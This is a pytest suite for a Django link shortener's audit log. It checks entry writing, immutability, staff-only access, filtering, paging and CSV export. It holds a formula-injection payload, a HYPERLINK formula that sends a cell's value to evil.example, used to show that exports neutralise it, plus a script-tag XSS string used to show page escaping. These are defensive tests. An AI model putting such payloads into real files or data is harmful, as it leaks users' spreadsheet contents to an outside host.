"""The audit log: each kind of change, through each entry point, writes exactly one entry
naming the right actor and entry point; entries are never edited; staff read them on
/audit/ (filtered, paged, exported as formula-safe CSV), nobody else can."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from waffle.testutils import override_flag

from shortener import links
from shortener.audit.models import Action, Entry, EntryChangeRefused, Kind, Via
from shortener.audit.recording import NOBODY, SITE, acting_as, record
from shortener.models import ApiToken, BlockedDomain, Domain, Link, WebhookSource
from tests.api_client import ApiClient
from tests.conftest import make_link, make_user
from tests.webhook_delivery import deliver, make_source, payload

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def entries_after(mark: int) -> list[Entry]:
    return list(Entry.objects.filter(pk__gt=mark).order_by("pk"))


def mark() -> int:
    last = Entry.objects.order_by("-pk").first()
    return last.pk if last else 0


def one_entry(since: int, **expected) -> Entry:
    """Exactly one entry was written since `since`, and it says what `expected` says."""
    written = entries_after(since)
    assert len(written) == 1, [(e.kind, e.action, e.summary) for e in written]
    [entry] = written
    for name, value in expected.items():
        assert getattr(entry, name) == value, (name, getattr(entry, name), entry.summary)
    return entry


@pytest.fixture
def alice(client):
    user = make_user("alice")
    client.force_login(user)
    return user


@pytest.fixture
def staff(client):
    user = make_user("stan", is_staff=True, is_superuser=True)
    client.force_login(user)
    return user


# --- links, through each entry point ---------------------------------------------------


def test_each_link_change_through_the_pages_is_one_entry_by_its_person(client, alice):
    start = mark()
    client.post(reverse("link-list"), {"target": "https://example.com/a", "redirect_code": "302"})
    link = Link.objects.get()
    made = one_entry(start, action=Action.CREATED, kind=Kind.LINK, actor=alice, via=Via.PAGE)
    assert made.object_id == str(link.pk) and made.actor_name == "alice"
    assert link.slug in made.summary and "https://example.com/a" in made.summary

    start = mark()
    edit = {"target": "https://example.com/b", "title": "Renamed", "redirect_code": "302"}
    assert client.post(f"/links/{link.slug}/edit/", edit).status_code in (302, 303)
    changed = one_entry(start, action=Action.CHANGED, actor=alice, via=Via.PAGE)
    assert changed.changes["target"] == ["https://example.com/a", "https://example.com/b"]
    assert changed.changes["title"] == ["", "Renamed"]
    assert changed.object_name == "Renamed"

    for action, path in [
        (Action.DISABLED, "disable"),
        (Action.ENABLED, "enable"),
        (Action.DELETED, "delete"),
    ]:
        start = mark()
        client.post(f"/links/{link.slug}/{path}/")
        one_entry(start, action=action, kind=Kind.LINK, actor=alice, via=Via.PAGE)


def test_saving_an_edit_that_changes_nothing_writes_no_entry(client, alice):
    link = links.create({"target": "https://example.com/same", "title": "Same"}, actor=alice)
    start = mark()
    links.edit(link, by=alice, title="Same", target="https://example.com/same")
    assert entries_after(start) == []


def test_a_password_is_logged_as_set_never_as_its_hash(alice):
    link = links.create({"target": "https://example.com/locked"}, actor=alice)
    start = mark()
    links.edit(link, by=alice, password="open sesame")
    entry = one_entry(start, action=Action.CHANGED)
    assert entry.changes["password"] == ["none", "changed"]
    assert link.password not in str(entry.changes)


def test_each_link_change_through_the_api_is_one_entry_by_the_tokens_owner(client):
    with override_flag("api_v1", active=True):
        api = ApiClient(client, make_user("script"))
        start = mark()
        created = api.post("/api/v1/links", {"target": "https://example.com/api"})
        assert created.status_code == 201, created.content
        slug = created.json()["slug"]
        one_entry(start, action=Action.CREATED, actor=api.user, via=Via.API)
        steps = [
            (Action.CHANGED, lambda: api.patch(f"/api/v1/links/{slug}", {"title": "T"})),
            (Action.DISABLED, lambda: api.post(f"/api/v1/links/{slug}/disable")),
            (Action.ENABLED, lambda: api.post(f"/api/v1/links/{slug}/enable")),
            (Action.DELETED, lambda: api.delete(f"/api/v1/links/{slug}")),
        ]
        for action, call in steps:
            start = mark()
            assert call().status_code in (200, 204)
            one_entry(start, action=action, kind=Kind.LINK, actor=api.user, via=Via.API)


def test_the_apis_batch_writes_one_entry_a_created_link(client):
    with override_flag("api_v1", active=True):
        api = ApiClient(client, make_user("script"))
        start = mark()
        body = {"links": [{"target": "https://example.com/1"}, {"target": "https://example.com/2"}]}
        assert api.post("/api/v1/links/batch", body).status_code == 200
    written = entries_after(start)
    assert [(e.action, e.actor, e.via) for e in written] == [
        (Action.CREATED, api.user, Via.API)
    ] * 2


def test_each_link_change_through_admin_is_one_entry_by_the_staff_member(client, staff):
    start = mark()
    add = {"target": "https://example.com/adm", "redirect_code": "302", "is_active": "on"}
    assert client.post(reverse("admin:shortener_link_add"), add).status_code == 302
    link = Link.objects.get()
    one_entry(start, action=Action.CREATED, actor=staff, via=Via.ADMIN)

    start = mark()
    change = {**add, "target": "https://example.org/adm"}
    client.post(reverse("admin:shortener_link_change", args=[link.pk]), change)
    one_entry(start, action=Action.CHANGED, actor=staff, via=Via.ADMIN)

    changelist = reverse("admin:shortener_link_changelist")
    for action, name in [
        (Action.DISABLED, "disable_links"),
        (Action.ENABLED, "enable_links"),
        (Action.DELETED, "delete_links"),
    ]:
        start = mark()
        client.post(changelist, {"action": name, "_selected_action": [link.pk]})
        one_entry(start, action=action, actor=staff, via=Via.ADMIN)


def test_a_webhook_acts_as_its_sources_owner_and_says_which_source(client):
    owner = make_user("publisher")
    source = make_source("cms", owner=owner)
    start = mark()
    deliver(client, source, payload("link.create", url="https://example.com/hook"))
    one_entry(start, action=Action.CREATED, actor=owner, via=Via.WEBHOOK, via_detail="cms")
    start = mark()
    deliver(client, source, payload("link.disable", url="https://example.com/hook"))
    one_entry(start, action=Action.DISABLED, actor=owner, via=Via.WEBHOOK)


def test_an_import_writes_one_entry_a_link_through_the_import(client, alice):
    start = mark()
    lines = "https://example.com/one\r\nhttps://example.com/two\r\nnot a url"
    client.post("/import/", {"lines": lines, "format": "lines"})
    written = [e for e in entries_after(start) if e.kind == Kind.LINK]
    assert [(e.action, e.actor, e.via) for e in written] == [
        (Action.CREATED, alice, Via.IMPORT)
    ] * 2


def test_a_command_is_the_sites_change():
    start = mark()
    call_command("block_domain", "evil.example", "--reason", "phishing", stdout=io.StringIO())
    entry = one_entry(start, action=Action.BLOCKED, kind=Kind.BLOCKED_DOMAIN, actor=None)
    assert entry.actor_name == SITE and entry.via == Via.COMMAND
    assert entry.object_name == "evil.example"


def test_blocking_in_admin_is_one_entry_however_many_links_it_disables(client, staff):
    for n in range(3):
        make_link(target=f"https://bad.example/{n}")
    start = mark()
    client.post(reverse("admin:shortener_blockeddomain_add"), {"domain": "bad.example"})
    entry = one_entry(start, action=Action.BLOCKED, actor=staff, via=Via.ADMIN)
    assert entry.changes == {"links disabled": [None, 3]}
    start = mark()
    row = BlockedDomain.objects.get()
    client.post(reverse("admin:shortener_blockeddomain_delete", args=[row.pk]), {"post": "yes"})
    one_entry(start, action=Action.UNBLOCKED, actor=staff, via=Via.ADMIN)


def test_a_blocklist_feed_is_one_entry_naming_its_source_not_one_a_domain(tmp_path):
    make_link(target="https://two.example/x")
    feed = tmp_path / "feed.txt"
    feed.write_text("one.example\ntwo.example\nthree.example\n")
    start = mark()
    call_command("import_blocklist", str(feed), "--source", "urlhaus", stdout=io.StringIO())
    blocked, quarantined = sorted(entries_after(start), key=lambda e: e.kind != "blocked_domain")
    assert (blocked.action, blocked.kind, blocked.via) == (
        Action.BLOCKED,
        Kind.BLOCKED_DOMAIN,
        Via.COMMAND,
    )
    assert quarantined.action == Action.QUARANTINED  # the link it found, for review
    entry = blocked
    assert "Blocked 3 domains from feed:urlhaus" in entry.summary
    assert "found 1 link(s)" in entry.summary  # quarantined for review, not disabled
    assert entry.changes == {"domains added": [None, 3]}


def test_a_quarantine_and_its_lifting_are_entries(staff):
    link = make_link(owner=make_user("olga"))
    start = mark()
    links.quarantine(link, by=staff, reason="phishing")
    one_entry(start, action=Action.QUARANTINED, actor=staff)
    start = mark()
    links.let_continue(link, by=staff, allowed=True)
    entry = one_entry(start, action=Action.CHANGED, actor=staff)
    assert entry.changes == {"quarantine_passable": [False, True]}
    start = mark()
    links.release(link, by=staff)
    one_entry(start, action=Action.RELEASED, actor=staff)


def test_nobody_signed_in_is_named_so(settings):
    with override_flag("anonymous_links", active=True):
        start = mark()
        links.create({"target": "https://example.com/anon"}, actor=None)
        entry = one_entry(start, action=Action.CREATED, actor=None)
    assert entry.actor_name == NOBODY


# --- domains, tokens, webhook sources, flags -------------------------------------------


def test_domains_added_changed_and_removed_in_admin(client, staff):
    start = mark()
    client.post(reverse("admin:shortener_domain_add"), {"host": "go.example", "is_active": "on"})
    domain = Domain.objects.get(host="go.example")
    one_entry(start, action=Action.CREATED, kind=Kind.DOMAIN, actor=staff, via=Via.ADMIN)

    start = mark()
    client.post(
        reverse("admin:shortener_domain_change", args=[domain.pk]),
        {"host": "go.example", "is_active": "on", "http_only": "on"},
    )
    entry = one_entry(start, action=Action.CHANGED, kind=Kind.DOMAIN, actor=staff)
    assert entry.changes == {"http_only": [False, True]}
    assert entry.object_name == "go.example"

    start = mark()
    client.post(reverse("admin:shortener_domain_delete", args=[domain.pk]), {"post": "yes"})
    assert not Domain.objects.filter(pk=domain.pk).exists()
    one_entry(start, action=Action.DELETED, kind=Kind.DOMAIN, actor=staff, via=Via.ADMIN)


def test_tokens_created_and_revoked_on_the_page_and_revoked_in_admin(client, alice):
    start = mark()
    client.post(
        reverse("token-list"), {"name": "deploy", "scopes": ["links:read"], "lifetime": "30"}
    )
    token = ApiToken.objects.get(name="deploy")
    entry = one_entry(start, action=Action.CREATED, kind=Kind.TOKEN, actor=alice, via=Via.PAGE)
    assert f"links:read, until {token.expires_at:%Y-%m-%d %H:%M} UTC" in entry.summary

    start = mark()
    client.post(reverse("token-revoke", args=[token.pk]))
    one_entry(start, action=Action.REVOKED, kind=Kind.TOKEN, actor=alice, via=Via.PAGE)
    start = mark()
    client.post(reverse("token-revoke", args=[token.pk]))  # revoked already: no change
    assert entries_after(start) == []

    stan = make_user("stan", is_staff=True, is_superuser=True)
    other = ApiToken.objects.create(user=alice, name="ci", prefix="torii_x", digest="d" * 64)
    client.force_login(stan)
    start = mark()
    changelist = reverse("admin:shortener_apitoken_changelist")
    client.post(changelist, {"action": "revoke", "_selected_action": [other.pk]})
    one_entry(start, action=Action.REVOKED, actor=stan, via=Via.ADMIN)


def test_using_a_token_writes_no_entry(client):
    with override_flag("api_v1", active=True):
        api = ApiClient(client, make_user("script"))
        start = mark()
        assert api.get("/api/v1/links").status_code == 200
    assert entries_after(start) == []


def test_webhook_sources_added_switched_and_rotated_in_admin(client, staff):
    owner = make_user("publisher")
    start = mark()
    client.post(
        reverse("admin:shortener_webhooksource_add"),
        {"name": "cms", "owner": owner.pk, "scheme": "standard", "enabled": "on"},
    )
    source = WebhookSource.objects.get()
    one_entry(start, action=Action.CREATED, kind=Kind.WEBHOOK_SOURCE, actor=staff)

    changelist = reverse("admin:shortener_webhooksource_changelist")
    for action, name in [
        (Action.DISABLED, "disable_sources"),
        (Action.ENABLED, "enable_sources"),
        (Action.ROTATED, "rotate_secrets"),
        (Action.CHANGED, "retire_old_secrets"),
    ]:
        start = mark()
        client.post(changelist, {"action": name, "_selected_action": [source.pk]})
        one_entry(start, action=action, kind=Kind.WEBHOOK_SOURCE, actor=staff, via=Via.ADMIN)
    assert "whsec_" not in str(list(Entry.objects.values()))


def test_a_flag_flipped_on_the_board_is_in_the_log_by_who_flipped_it(client, staff):
    start = mark()
    client.post("/flags/flag/custom_slugs/", {"action": "on", "confirmed": "on"})
    entry = one_entry(start, action=Action.CHANGED, kind=Kind.FLAG, actor=staff, via=Via.PAGE)
    assert entry.object_id == "custom_slugs"
    assert "→ on for everyone" in entry.summary
    body = client.get("/audit/?kind=flag").content.decode()
    assert "custom_slugs" in body


def test_a_flag_changed_by_code_is_the_sites_change():
    from flags.models import FeatureFlag

    start = mark()
    flag = FeatureFlag.objects.get(name="custom_slugs")
    flag.everyone = True
    flag.save()
    entry = one_entry(start, kind=Kind.FLAG, actor=None, via=Via.COMMAND)
    assert entry.actor_name == SITE


# --- never editable ----------------------------------------------------------------------


def test_an_entry_is_never_changed_or_removed(alice):
    entry = record(Action.CREATED, Kind.LINK, 1, "Created x.", actor=alice)
    entry.summary = "Nothing happened."
    with pytest.raises(EntryChangeRefused):
        entry.save()
    with pytest.raises(EntryChangeRefused):
        entry.delete()
    with pytest.raises(EntryChangeRefused):
        Entry.objects.filter(pk=entry.pk).update(summary="Nothing happened.")
    with pytest.raises(EntryChangeRefused):
        Entry.objects.filter(pk=entry.pk).delete()
    assert Entry.objects.get(pk=entry.pk).summary == "Created x."


def test_admin_shows_entries_and_offers_no_way_to_change_them(client, staff):
    entry = record(Action.CREATED, Kind.LINK, 1, "Created x.", actor=staff)
    assert client.get(reverse("admin:shortener_entry_changelist")).status_code == 200
    assert client.get(reverse("admin:shortener_entry_add")).status_code == 403
    detail = client.get(reverse("admin:shortener_entry_change", args=[entry.pk]))
    assert detail.status_code == 200
    assert 'type="submit"' not in detail.content.decode().split('id="content-main"')[1]
    client.post(reverse("admin:shortener_entry_change", args=[entry.pk]), {"summary": "x"})
    delete = client.post(reverse("admin:shortener_entry_delete", args=[entry.pk]), {"post": "yes"})
    assert delete.status_code == 403
    listing = client.get(reverse("admin:shortener_entry_changelist")).content.decode()
    assert "delete_selected" not in listing
    assert Entry.objects.get(pk=entry.pk).summary == "Created x."


# --- the page -------------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["anonymous", "person"])
def test_nobody_but_staff_reads_the_sites_own_entries(client, who):
    record(Action.CREATED, Kind.LINK, 1, "Created secret-slug.", actor=None)
    if who == "person":
        client.force_login(make_user("olga"))
    for path in ("/audit/", "/audit/export.csv", "/audit/?kind=link"):
        response = client.get(path)
        assert response.status_code == (200 if who == "person" else 404)
        body = b"".join(response) if response.streaming else response.content
        assert b"secret-slug" not in body
    if who == "person":
        assert 'href="/audit/"' not in client.get("/").content.decode()  # staff's header


def test_an_owner_reads_what_happened_in_the_workspaces_they_own_and_nothing_else(client):
    from shortener.workspaces import members

    olga, vera = make_user("olga"), make_user("vera")
    team = members.create_workspace("Team", by=olga)
    team.memberships.create(user=vera, role="editor")
    make_link(slug="team-link", owner=vera, workspace=team)
    make_link(slug="vera-own", owner=vera)
    links.disable(Link.objects.get(slug="team-link"), by=vera)
    links.disable(Link.objects.get(slug="vera-own"), by=vera)
    record(Action.CREATED, Kind.DOMAIN, 1, "Created the domain secret.example.", actor=None)

    def read(user) -> str:
        client.force_login(user)
        return client.get("/audit/").content.decode() + "".join(
            line.decode() for line in client.get("/audit/export.csv").streaming_content
        )

    olgas = read(olga)
    assert "team-link" in olgas and "Created the workspace" in olgas
    assert "vera-own" not in olgas and "secret.example" not in olgas
    veras = read(vera)  # an editor of Team: only her own workspace's entries
    assert "vera-own" in veras and "team-link" not in veras
    members.change_role(team.memberships.get(user=vera), "owner")
    assert "team-link" in read(vera)  # an owner now: asked on every request


def test_staff_read_newest_first_with_the_header_link(client, staff):
    now = timezone.now()
    record(Action.CREATED, Kind.LINK, 1, "Created older.", at=now - timedelta(hours=1))
    record(Action.DISABLED, Kind.LINK, 1, "Disabled newer.", at=now)
    response = client.get("/audit/")
    body = response.content.decode()
    assert response.status_code == 200
    assert body.index("Disabled newer.") < body.index("Created older.")
    assert 'href="/audit/" aria-current="page">Audit log</a>' in body


def seed_filtered(staff):
    olga = make_user("olga")
    now = timezone.now()
    record(
        Action.CREATED, Kind.LINK, 1, "Olga made a link.", actor=olga, at=now - timedelta(days=3)
    )
    record(Action.DISABLED, Kind.LINK, 1, "Stan disabled it.", actor=staff, at=now)
    record(Action.CREATED, Kind.DOMAIN, 2, "Stan added a domain.", actor=staff, at=now)
    return now


@pytest.mark.parametrize(
    ("query", "shown"),
    [
        ("actor=olga", {"Olga made a link."}),
        ("actor=STAN", {"Stan disabled it.", "Stan added a domain."}),
        ("action=created", {"Olga made a link.", "Stan added a domain."}),
        ("kind=domain", {"Stan added a domain."}),
        ("actor=stan&kind=link", {"Stan disabled it."}),
        ("since={today}", {"Stan disabled it.", "Stan added a domain."}),
        ("until={three_days_ago}", {"Olga made a link."}),
        ("since={three_days_ago}&until={three_days_ago}", {"Olga made a link."}),
    ],
)
def test_filters(client, staff, query, shown):
    now = seed_filtered(staff)
    query = query.format(
        today=now.date().isoformat(),
        three_days_ago=(now - timedelta(days=3)).date().isoformat(),
    )
    every = {"Olga made a link.", "Stan disabled it.", "Stan added a domain."}
    for headers in ({}, {"HX-Request": "true", "HX-Target": "audit-entries"}):
        response = client.get(f"/audit/?{query}", headers=headers)
        body = response.content.decode()
        assert response.status_code == 200
        assert {s for s in every if s in body} == shown
        assert ("<html" in body) == (not headers)  # htmx gets the entries only
    exported = client.get(f"/audit/export.csv?{query}")
    rows = list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode())))
    assert {row["summary"] for row in rows} == shown


@pytest.mark.parametrize(
    ("query", "sentence"),
    [
        ("since=yesterday", "Write the first date like 2026-03-01."),
        ("until=2026-13-01", "Write the last date like 2026-03-01."),
        ("since=2026-03-02&until=2026-03-01", "The last day must not come before the first."),
        ("action=vanished", "Choose an action from the list."),
        ("kind=secret", "Choose a kind from the list."),
    ],
)
def test_bad_filters_are_refused_with_a_sentence(client, staff, query, sentence):
    seed_filtered(staff)
    response = client.get(f"/audit/?{query}")
    body = response.content.decode()
    assert response.status_code == 422
    assert sentence in body and "Olga made a link." not in body
    exported = client.get(f"/audit/export.csv?{query}")
    assert exported.status_code == 422 and sentence in exported.content.decode()


def test_pages_follow_one_another_without_repeating_or_skipping(client, staff):
    now = timezone.now()
    for n in range(60):
        record(Action.CREATED, Kind.LINK, n, f"Entry number {n:02}.", at=now - timedelta(minutes=n))
    first = client.get("/audit/")
    body = first.content.decode()
    assert "Entry number 00." in body and "Entry number 49." in body
    assert "Entry number 50." not in body
    assert first["X-Total-Count"] == "60"
    older = first.context["relations"]["next"]
    body = client.get(older).content.decode()
    assert "Entry number 50." in body and "Entry number 59." in body
    assert "Entry number 49." not in body and 'rel="prev"' in body
    bad = client.get("/audit/?cursor=forged")
    assert bad.status_code == 422 and "This cursor is malformed" in bad.content.decode()


def test_the_csv_is_safe_in_a_spreadsheet_whatever_a_title_says(client, staff):
    olga = make_user("olga")
    link = links.create({"target": "https://example.com/x", "title": HOSTILE}, actor=olga)
    links.edit(link, by=olga, title=HOSTILE + " again")
    client.force_login(staff)
    response = client.get("/audit/export.csv?kind=link")
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["action"] for row in rows] == ["changed", "created"]
    assert rows[1]["object name"] == "'" + HOSTILE
    assert rows[0]["object name"] == "'" + HOSTILE + " again"
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())


def test_the_page_escapes_what_people_wrote(client, staff):
    record(Action.CREATED, Kind.LINK, 1, "Created <script>alert(1)</script>.", name="<b>x</b>")
    body = client.get("/audit/").content.decode()
    assert "<script>alert(1)</script>" not in body
    assert "&lt;script&gt;" in body


def test_an_entry_written_in_a_rolled_back_change_is_gone_with_it(alice):
    from django.db import transaction

    start = mark()
    with pytest.raises(RuntimeError), transaction.atomic():
        links.create({"target": "https://example.com/rolled"}, actor=alice)
        raise RuntimeError
    assert entries_after(start) == [] and not Link.objects.exists()


def test_acting_as_names_the_entry_point_for_code_that_asks():
    start = mark()
    with acting_as(None, Via.IMPORT, "peer.csv"):
        record(Action.CREATED, Kind.LINK, 1, "Created x.")
    entry = one_entry(start, via=Via.IMPORT, via_detail="peer.csv", actor_name=NOBODY)
    assert entry.actor is None


def test_the_flags_trail_from_before_the_log_is_copied_into_it():
    """Migration 0020 copies every FlagChange it finds: the trail becomes part of the log."""
    import importlib

    from django.apps import apps

    from flags.models import FeatureFlag, FlagChange
    from flags.rules import flag_rule

    olga = make_user("olga")
    rule = flag_rule(FeatureFlag.objects.get(name="custom_slugs"))
    FlagChange.objects.create(
        kind="flag",
        name="custom_slugs",
        changed_by=olga,
        changed_by_name="olga",
        before=rule,
        after={**rule, "everyone": True},
    )
    migration = importlib.import_module("shortener.migrations.0020_audit_log")
    migration.copy_flag_trail(apps, None)
    copied = Entry.objects.filter(via="")
    assert copied.count() == FlagChange.objects.count()
    mine = copied.get(actor_name="olga")
    assert (mine.kind, mine.action, mine.object_id, mine.actor) == (
        "flag",
        "changed",
        "custom_slugs",
        olga,
    )
    assert "custom_slugs" in mine.summary and "→" in mine.summary


def test_deleting_an_account_keeps_its_entries_and_their_name(alice):
    entry = record(Action.CREATED, Kind.LINK, 1, "Created x.", actor=alice)
    alice.delete()
    kept = Entry.objects.get(pk=entry.pk)
    assert kept.actor is None and kept.actor_name == "alice"


def test_webhook_sources_made_rotated_and_disabled_by_command_are_the_sites():
    make_user("publisher")
    out = io.StringIO()
    start = mark()
    call_command("webhook_source", "create", "cms", "--owner", "publisher", stdout=out)
    one_entry(start, action=Action.CREATED, kind=Kind.WEBHOOK_SOURCE, actor_name=SITE)
    for action, command in [(Action.ROTATED, "rotate"), (Action.DISABLED, "disable")]:
        start = mark()
        call_command("webhook_source", command, "cms", stdout=out)
        one_entry(start, action=action, via=Via.COMMAND, actor_name=SITE)
